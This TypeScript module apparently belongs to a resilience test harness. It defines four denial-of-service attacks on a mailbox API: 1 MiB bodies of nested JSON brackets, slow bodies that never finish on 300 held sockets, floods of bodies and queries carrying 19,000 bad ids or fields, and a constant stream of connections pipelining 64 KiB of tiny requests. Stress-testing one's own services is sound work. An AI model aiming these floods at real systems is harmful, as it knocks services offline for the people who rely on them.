import { setTimeout as delay } from 'node:timers/promises';
import { requestText } from '../../../load/http-client.ts';
import { attackerAddress } from '../../addresses.ts';
import type { Attack } from '../../attack.ts';
import { assaultOfCalls } from '../../means/flood.ts';
import { HeldSockets, holdSockets, portOf } from '../../means/held-sockets.ts';

const MiB = 1024 * 1024;
const mistakes = 19_000;
const pipelinedBytes = 64 * 1024;
const betweenMs = 50;

/** Bodies that are nothing but brackets, which take a hundred times their size once they are read. */
export const jsonDepth: Attack = {
  id: '2a',
  name: '200 bodies of 1 MiB of brackets at once',
  seconds: 10,
  prepare: async (target) => {
    const deletion = { method: 'DELETE', path: '/v1/mailboxes', body: '['.repeat(MiB) };
    return assaultOfCalls(target, 200, () => deletion);
  },
};

/** Bodies of 1 MiB of which the last byte never comes. */
export const slowBodies: Attack = {
  id: '2b',
  name: '300 bodies of 1 MiB that do not end',
  seconds: 15,
  prepare: async (target) => {
    const { key } = target;
    const whole = requestText({ method: 'DELETE', path: '/v1/mailboxes', key, body: ' '.repeat(MiB) });
    return async (over) => {
      const wanted = {
        port: portOf(target),
        count: 300,
        localAddress: attackerAddress,
        first: whole.slice(0, -1),
        over,
      };
      const sockets = await holdSockets(wanted);
      return `${sockets.alive} held; answers: ${sockets.answers}`;
    };
  },
};

/** Bodies with as many mistakes as fit in, and queries with as many parameters. */
export const manyMistakes: Attack = {
  id: '24b',
  name: '100 bodies of 19,000 mistakes at once',
  seconds: 10,
  prepare: async (target) => {
    const ids = JSON.stringify({ ids: Array.from({ length: mistakes }, (_, index) => index) });
    const names = Array.from({ length: mistakes }, (_, index) => [`${index}`.repeat(8), 0]);
    const unknown = JSON.stringify(Object.fromEntries(names));
    const query = names.slice(0, 500).map(([name]) => `${name}=`);
    const calls = [
      { method: 'DELETE', path: '/v1/mailboxes', body: ids },
      { method: 'DELETE', path: '/v1/mailboxes', body: unknown },
      { path: `/v1/events?${query.join('&')}` },
    ];
    return assaultOfCalls(target, 100, (index) => calls[index % 3] ?? { path: '/' });
  },
};

/** As much as a server reads at once, full of requests that ask for nothing, over new connections all the time. */
export const pipelinedRequests: Attack = {
  id: '20',
  name: '64 KiB of tiny pipelined requests',
  seconds: 15,
  prepare: async (target) => {
    const request = 'GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n';
    const first = Buffer.from(request.repeat(pipelinedBytes / request.length));
    return async (over) => {
      const sockets = new HeldSockets();
      while (!over.aborted) {
        await sockets.open({ port: portOf(target), count: 1, localAddress: () => attackerAddress(), first, over });
        await delay(betweenMs);
      }
      return `answers: ${sockets.answers}`;
    };
  },
};
